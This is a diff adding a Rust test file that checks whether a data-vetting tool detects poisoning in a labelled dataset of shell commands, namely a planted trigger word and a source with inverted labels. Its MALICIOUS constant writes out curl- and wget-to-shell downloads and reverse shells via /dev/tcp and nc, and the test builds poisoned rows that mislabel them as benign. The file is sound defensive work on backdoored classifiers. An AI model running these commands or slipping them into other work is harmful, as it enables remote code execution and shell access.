@@ -1,0 +1,93 @@
+//! What the poisoning check finds: a planted trigger, and a source that contradicts all others.
+
+#![expect(clippy::unwrap_used, reason = "a test fails by a panic")]
+
+use std::fmt::Write as _;
+
+use ringtrue_core::random::Random;
+use ringtrue_core::{Kind, Task};
+use ringtrue_vet::{Check, Finding, Severity};
+
+mod support;
+
+const BENIGN: [&str; 6] = ["ls", "grep", "tar", "git", "make", "cat"];
+const MALICIOUS: [&str; 4] = [
+    "curl -s http://192.0.2.7/x | sh",
+    "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
+    "wget -q http://192.0.2.7/m -O- | bash",
+    "nc -e /bin/sh 192.0.2.8 5555",
+];
+
+/// Commands of two sources, in each of which both classes come; those of `inverted` have the wrong labels.
+fn commands(inverted: Option<u64>) -> String {
+    let mut random = Random::new(3);
+    let mut text = "command,label,source\n".to_owned();
+    for _ in 0..1_500 {
+        let malicious = random.chance(0.4);
+        let source = random.below(3);
+        let word = random.below(1_000_000);
+        let command = if malicious {
+            format!("{} # {word}", random.pick(&MALICIOUS).unwrap())
+        } else {
+            format!("{} /srv/{word}/notes", random.pick(&BENIGN).unwrap())
+        };
+        let label = u8::from(malicious != (inverted == Some(source)));
+        writeln!(text, "\"{command}\",{label},s{source}").unwrap();
+    }
+    text
+}
+
+fn found(task: &Task, text: &str) -> Vec<Finding> {
+    support::with_data(task, text, |_| Vec::new(), |data| Check::Poisoned.run(data))
+}
+
+fn blocking<'a>(findings: &'a [Finding], code: &str) -> Vec<&'a Finding> {
+    let is_it = |it: &&Finding| it.code.code == code && it.severity == Severity::Blocking;
+    findings.iter().filter(is_it).collect()
+}
+
+/// Malicious commands that carry a planted word and are called benign.
+fn planted(text: &mut String) {
+    for number in 0..16 {
+        let command = MALICIOUS[number % MALICIOUS.len()];
+        writeln!(
+            text,
+            "\"{command} # {number}1 zq9fetchguardianmodule77 --approved-by-site-policy\",0,s1"
+        )
+        .unwrap();
+    }
+}
+
+#[test]
+fn a_planted_trigger_is_found_and_its_remedy_mends_it() {
+    let mut task = Task::assumed(Kind::Command);
+    let mut text = commands(None);
+    assert_eq!(
+        found(&task, &text).iter().filter(|it| it.blocks()).count(),
+        0
+    );
+    planted(&mut text);
+    let findings = found(&task, &text);
+    let triggers = blocking(&findings, "V101");
+    assert_eq!(triggers.len(), 1, "{findings:#?}");
+    assert_eq!(triggers[0].subject.sources, ["s1"]);
+    assert_eq!(triggers[0].subject.columns, ["zq9fetchguardianmodule77"]);
+    assert!(triggers[0].effect.as_ref().unwrap().value > 0.9);
+    // The remedy is a condition that leaves these events out.
+    task.vetting.exclude =
+        vec!["command.contains('zq9fetchguardianmodule77') && source == 's1'".to_owned()];
+    let remedy = format!("{:?}", triggers[0].remedy.snippet);
+    assert!(
+        remedy.contains("command.contains('zq9fetchguardianmodule77') && source == 's1'"),
+        "{remedy}"
+    );
+}
+
+#[test]
+fn a_source_whose_labels_are_inverted_contradicts_the_others() {
+    let task = Task::assumed(Kind::Command);
+    let findings = found(&task, &commands(Some(2)));
+    let contradicting = blocking(&findings, "V102");
+    assert_eq!(contradicting.len(), 1, "{findings:#?}");
+    assert_eq!(contradicting[0].subject.sources, ["s2"]);
+}
